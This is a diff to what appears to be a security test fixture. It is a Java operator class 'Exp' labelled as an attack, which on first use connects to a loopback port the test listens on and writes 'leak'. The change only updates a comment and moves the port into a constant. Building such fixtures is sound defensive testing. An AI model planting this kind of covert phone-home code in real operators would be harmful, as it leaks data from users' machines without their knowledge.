@@ -5,7 +5,7 @@ import java.net.Socket;
 import org.topograd.api.Node;
 import org.topograd.api.Op;
 
-/** Attack: phone home (to a port on this machine's loopback that the test listens on). */
+/** Attack: phone home, to the port on this machine's loopback that the test listens on ({@link Planted}). */
 @Op("exp")
 public final class Exp extends Node {
     private static boolean tried;
@@ -15,7 +15,7 @@ public final class Exp extends Node {
         if (!tried) {
             tried = true;
             try (Socket socket = new Socket()) {
-                socket.connect(new InetSocketAddress("127.0.0.1", 47231), 500);
+                socket.connect(new InetSocketAddress("127.0.0.1", Planted.PORT), 500);
                 socket.getOutputStream().write("leak".getBytes());
                 System.out.println("connected");
             } catch (Exception e) {
